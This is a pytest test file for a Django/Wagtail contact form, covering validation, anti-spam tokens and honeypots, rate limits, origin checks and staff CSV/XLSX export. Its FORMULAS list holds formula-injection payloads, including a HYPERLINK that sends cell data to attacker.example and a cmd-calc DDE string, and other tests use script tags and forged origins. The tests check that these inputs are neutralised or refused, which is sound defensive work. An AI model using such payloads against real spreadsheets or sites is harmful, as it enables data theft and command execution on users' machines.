"""Contact us: a form editors define; every valid message is kept, spam is not."""

import csv
import io
import time
from smtplib import SMTPException
from unittest import mock

import pytest
from django.contrib.auth.models import Permission
from django.core import mail
from django.core.cache import cache
from django.test import Client
from openpyxl import load_workbook
from wagtail.contrib.forms.models import FormSubmission

from home.factories import ContactPageFactory
from home.models import CONTACT_RATE_LIMIT
from reader_input.antispam import HONEYPOT_FIELD, MAX_TOKEN_AGE, TOKEN_FIELD, make_token
from tests.reader_forms import ORIGIN, edition_url, send_contact_message


@pytest.fixture
def contact_page(home_page):
    return ContactPageFactory(parent=home_page)


@pytest.fixture
def mailed_contact_page(home_page):
    return ContactPageFactory(
        parent=home_page, to_address="staff@example.org", from_address="site@example.org"
    )


def valid_message(**overrides):
    return {"name": "Leyla", "email": "leyla@example.org", "message": "Hello.", **overrides}


def error_text(response):
    return response.content.decode()


@pytest.mark.django_db
def test_form_shows_the_editors_fields(client, contact_page):
    response = client.get(contact_page.url)
    html = response.content.decode()
    for name in ("name", "email", "message"):
        assert f'name="{name}"' in html
    # No CSRF token (the page may be cached): a signed form token and a honeypot instead,
    # posted to the csrf-exempt endpoint.
    assert "csrfmiddlewaretoken" not in html
    assert "csrftoken" not in response.cookies
    assert f'name="{TOKEN_FIELD}"' in html and f'name="{HONEYPOT_FIELD}"' in html
    assert f'action="{edition_url("send_contact", contact_page)}"' in html
    assert 'maxlength="5000"' in html and 'maxlength="255"' in html


@pytest.mark.django_db
def test_a_message_is_stored_and_thanked(client, contact_page):
    response = send_contact_message(client, contact_page, valid_message())
    assert response.status_code == 200
    assert "Thank you" in response.content.decode()
    assert "no-store" in response["Cache-Control"]
    submission = FormSubmission.objects.get(page=contact_page)
    assert submission.get_data()["message"] == "Hello."
    # The spam rules' fields are not part of the message.
    assert set(submission.form_data) == {"name", "email", "message"}
    assert mail.outbox == []  # no staff address configured: kept in the admin only


@pytest.mark.django_db
def test_staff_are_emailed_when_an_address_is_configured(client, mailed_contact_page):
    send_contact_message(client, mailed_contact_page, valid_message())
    assert len(mail.outbox) == 1
    assert mail.outbox[0].to == ["staff@example.org"]
    assert "Hello." in mail.outbox[0].body
    assert "Leave this field empty" not in mail.outbox[0].body
    assert TOKEN_FIELD not in mail.outbox[0].body


@pytest.mark.django_db
@pytest.mark.parametrize(
    "overrides",
    [
        {"email": "not-an-address"},
        {"message": ""},
        {"message": "   \r\n  "},
        {"name": ""},
        {"name": "x" * 256},
        {"message": "x" * 5001},
        {"email": "a" * 250 + "@example.org"},
    ],
)
def test_invalid_messages_show_errors_and_store_nothing(client, contact_page, overrides):
    response = send_contact_message(client, contact_page, valid_message(**overrides))
    assert response.status_code == 200
    html = response.content.decode()
    assert "Thank you" not in html
    assert 'aria-invalid="true"' in html and "error-summary" in html
    assert not FormSubmission.objects.exists()


@pytest.mark.django_db
def test_the_longest_allowed_message_counts_line_breaks_once(client, contact_page):
    # Browsers send line breaks as \r\n but count them once against maxlength.
    text = ("x" * 99 + "\r\n") * 50  # 5000 characters as the reader typed them
    response = send_contact_message(client, contact_page, valid_message(message=text))
    assert "Thank you" in response.content.decode()
    assert FormSubmission.objects.get().get_data()["message"] == ("x" * 99 + "\n") * 49 + "x" * 99


@pytest.mark.django_db
def test_rtl_emoji_and_markup_are_stored_as_typed(client, contact_page):
    message = "سلام! <script>alert(1)</script> 🙂 می‌خواهم"
    send_contact_message(client, contact_page, valid_message(name="سارا", message=message))
    data = FormSubmission.objects.get().get_data()
    assert data["message"] == message and data["name"] == "سارا"


@pytest.mark.django_db
def test_submissions_are_listed_in_the_admin(admin_client, client, contact_page):
    send_contact_message(client, contact_page, valid_message(message="Please call back."))
    response = admin_client.get(f"/admin/forms/submissions/{contact_page.pk}/")
    assert response.status_code == 200
    assert "Please call back." in response.content.decode()


# --- Spam rules ------------------------------------------------------------------------


@pytest.mark.django_db
def test_a_filled_honeypot_is_refused(client, contact_page):
    response = send_contact_message(
        client, contact_page, valid_message(**{HONEYPOT_FIELD: "http://spam.example"})
    )
    assert response.status_code == 200
    assert "a field that must stay empty was filled in" in error_text(response)
    assert not FormSubmission.objects.exists()


@pytest.mark.django_db
def test_a_form_sent_too_fast_is_refused(client, contact_page):
    response = send_contact_message(client, contact_page, valid_message(), age=0)
    assert "quicker than anyone can type" in error_text(response)
    assert not FormSubmission.objects.exists()
    # The form shown again carries a fresh token and keeps what the reader wrote.
    html = response.content.decode()
    assert f'name="{TOKEN_FIELD}"' in html and "Leyla" in html


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["missing", "tampered", "other_form", "expired", "garbage"])
def test_a_bad_form_token_is_refused(client, contact_page, kind):
    good = make_token(f"contact:{contact_page.pk}", time.time() - 60)
    tokens = {
        "missing": "",
        "tampered": good[:-3] + ("AAA" if not good.endswith("AAA") else "BBB"),
        "other_form": make_token("comment:1", time.time() - 60),
        "expired": make_token(f"contact:{contact_page.pk}", time.time() - MAX_TOKEN_AGE - 60),
        "garbage": "<script>",
    }
    response = send_contact_message(
        client, contact_page, valid_message(**{TOKEN_FIELD: tokens[kind]})
    )
    assert response.status_code == 200
    assert "This form has expired or was changed" in error_text(response)
    assert not FormSubmission.objects.exists()


@pytest.mark.django_db
def test_rate_limit_per_sender(client, contact_page):
    for number in range(CONTACT_RATE_LIMIT.limit):
        response = send_contact_message(client, contact_page, valid_message(message=f"#{number}"))
        assert "Thank you" in response.content.decode()
    response = send_contact_message(client, contact_page, valid_message(message="one more"))
    assert response.status_code == 429
    assert "several messages in a short time" in error_text(response)
    assert FormSubmission.objects.count() == CONTACT_RATE_LIMIT.limit
    # Another sender is not affected.
    other = send_contact_message(
        client, contact_page, valid_message(message="hi"), REMOTE_ADDR="192.0.2.7"
    )
    assert "Thank you" in other.content.decode()


@pytest.mark.django_db
def test_rejected_messages_do_not_count_against_the_limit(client, contact_page):
    for _ in range(CONTACT_RATE_LIMIT.limit + 2):
        send_contact_message(client, contact_page, valid_message(email="bad"))
    response = send_contact_message(client, contact_page, valid_message())
    assert "Thank you" in response.content.decode()


@pytest.mark.django_db
def test_behind_a_proxy_readers_are_told_apart_by_x_forwarded_for(client, contact_page, settings):
    settings.TRUSTED_PROXY_COUNT = 1
    for number in range(CONTACT_RATE_LIMIT.limit):
        send_contact_message(
            client,
            contact_page,
            valid_message(message=f"#{number}"),
            HTTP_X_FORWARDED_FOR="198.51.100.1",
        )
    # A different reader behind the same proxy; a spoofed left-hand entry is ignored.
    response = send_contact_message(
        client,
        contact_page,
        valid_message(message="me too"),
        HTTP_X_FORWARDED_FOR="198.51.100.1, 198.51.100.2",
    )
    assert "Thank you" in response.content.decode()
    response = send_contact_message(
        client,
        contact_page,
        valid_message(message="again"),
        HTTP_X_FORWARDED_FOR="203.0.113.9, 198.51.100.1",
    )
    assert response.status_code == 429


@pytest.mark.django_db
@pytest.mark.parametrize(
    "headers",
    [
        {"HTTP_ORIGIN": "https://evil.example"},
        {"HTTP_ORIGIN": "null"},
        {"HTTP_REFERER": "https://evil.example/page"},
        {},
    ],
)
def test_posts_from_other_sites_are_refused(client, contact_page, headers):
    response = send_contact_message(client, contact_page, valid_message(), origin=None, **headers)
    assert response.status_code == 403
    assert not FormSubmission.objects.exists()


@pytest.mark.django_db
def test_a_referer_from_the_site_is_enough(client, contact_page):
    response = send_contact_message(
        client,
        contact_page,
        valid_message(),
        origin=None,
        HTTP_REFERER=f"http://testserver{contact_page.url}",
    )
    assert "Thank you" in response.content.decode()


@pytest.mark.django_db
def test_the_page_address_itself_keeps_djangos_csrf_check(contact_page):
    client = Client(enforce_csrf_checks=True)
    response = client.post(contact_page.url, valid_message())
    assert response.status_code == 403
    assert not FormSubmission.objects.exists()


@pytest.mark.django_db
def test_unknown_or_unpublished_contact_pages_are_404(client, contact_page):
    contact_page.unpublish()
    assert send_contact_message(client, contact_page, valid_message()).status_code == 404
    assert client.post("/en/contact/999999/send/", valid_message()).status_code == 404
    assert client.get(edition_url("send_contact", contact_page)).status_code == 405


# --- Mail failures and double submits -----------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("failure", [SMTPException("503 try later"), ConnectionRefusedError()])
def test_a_failed_email_keeps_the_message_and_thanks_the_reader(
    client, mailed_contact_page, failure
):
    with (
        mock.patch("django.core.mail.EmailMessage.send", side_effect=failure) as send,
        mock.patch("home.models.logger") as logger,
    ):
        response = send_contact_message(client, mailed_contact_page, valid_message())
    assert send.called
    assert response.status_code == 200
    assert "Thank you" in response.content.decode()
    assert FormSubmission.objects.filter(page=mailed_contact_page).count() == 1
    logger.exception.assert_called_once()


@pytest.mark.django_db
def test_the_message_is_stored_before_the_email_is_sent(client, mailed_contact_page):
    stored_when_sending = []

    def send(*args, **kwargs):
        stored_when_sending.append(FormSubmission.objects.count())
        return 1

    with mock.patch("django.core.mail.EmailMessage.send", side_effect=send):
        send_contact_message(client, mailed_contact_page, valid_message())
    assert stored_when_sending == [1]


@pytest.mark.django_db
def test_a_double_submit_is_stored_and_mailed_once(client, mailed_contact_page):
    first = send_contact_message(client, mailed_contact_page, valid_message())
    second = send_contact_message(client, mailed_contact_page, valid_message())
    assert "Thank you" in first.content.decode() and "Thank you" in second.content.decode()
    assert FormSubmission.objects.count() == 1
    assert len(mail.outbox) == 1
    # Still one when the cache has been cleared in between: the database is checked too.
    cache.clear()
    send_contact_message(client, mailed_contact_page, valid_message())
    assert FormSubmission.objects.count() == 1
    # A different message is a new one.
    send_contact_message(client, mailed_contact_page, valid_message(message="And another."))
    assert FormSubmission.objects.count() == 2


@pytest.mark.django_db
def test_a_retry_after_a_failed_email_is_not_stored_twice(client, mailed_contact_page):
    with mock.patch("django.core.mail.EmailMessage.send", side_effect=SMTPException()):
        send_contact_message(client, mailed_contact_page, valid_message())
    send_contact_message(client, mailed_contact_page, valid_message())
    assert FormSubmission.objects.count() == 1


@pytest.mark.django_db
@pytest.mark.parametrize("page_id", ["9" * 19, "9" * 30])
def test_an_id_too_large_for_any_table_is_a_404_not_a_server_error(client, contact_page, page_id):
    """SQLite cannot be asked about a number over 2**63 - 1 (OverflowError, a 500): such
    an address is no page's, and is refused before any query."""
    client.raise_request_exception = False
    response = client.post(f"/en/contact/{page_id}/send/", valid_message(), HTTP_ORIGIN=ORIGIN)
    assert response.status_code == 404
    assert not FormSubmission.objects.exists()


# --- Staff: export and permissions ------------------------------------------------------------


@pytest.mark.django_db
def test_staff_can_export_submissions_as_csv_and_xlsx(admin_client, client, contact_page):
    send_contact_message(client, contact_page, valid_message(message="Please call, شکرا"))
    send_contact_message(client, contact_page, valid_message(name="Arben", message="Tungjatjeta"))
    url = f"/admin/forms/submissions/{contact_page.pk}/"

    response = admin_client.get(url, {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    content = b"".join(response.streaming_content).decode("utf-8")
    header = content.splitlines()[0]
    assert "Name" in header and "Message" in header
    assert "Please call, شکرا" in content and "Tungjatjeta" in content
    assert TOKEN_FIELD not in content and HONEYPOT_FIELD not in content

    response = admin_client.get(url, {"export": "xlsx"})
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    values = [cell for row in workbook.active.iter_rows(values_only=True) for cell in row]
    assert "Tungjatjeta" in values


FORMULAS = [
    '=HYPERLINK("https://attacker.example/?d="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]


@pytest.mark.django_db
def test_exported_submissions_never_run_as_formulas(admin_client, client, contact_page):
    """A reader's text starting with = + - or @ is exported with a leading quote, so a
    spreadsheet shows it as text instead of running it (tabs and carriage returns, which the
    form strips here, are covered by the comments' export)."""
    for formula in FORMULAS + ["Plain words - 2 + 2"]:
        cache.clear()  # not the rate limit under test
        send_contact_message(client, contact_page, valid_message(name="Eve", message=formula))
    expected = sorted(["'" + formula for formula in FORMULAS] + ["Plain words - 2 + 2"])
    url = f"/admin/forms/submissions/{contact_page.pk}/"

    response = admin_client.get(url, {"export": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][-1] == "Message"
    assert sorted(row[-1] for row in rows[1:]) == expected

    response = admin_client.get(url, {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [row[-1] for row in sheet.iter_rows(min_row=2)]
    assert sorted(cell.value for cell in cells) == expected
    assert {cell.data_type for cell in cells} == {"s"}


@pytest.mark.django_db
def test_submissions_are_for_staff_only(client, contact_page, django_user_model):
    send_contact_message(client, contact_page, valid_message())
    url = f"/admin/forms/submissions/{contact_page.pk}/"
    assert client.get(url, {"export": "csv"}).status_code == 302  # to the admin login

    reader = django_user_model.objects.create_user("reader", password="x" * 12)
    reader.user_permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(reader)
    response = client.get(url, {"export": "csv"})
    assert response.status_code in (302, 403)
    assert b"Hello." not in b"".join(getattr(response, "streaming_content", [response.content]))
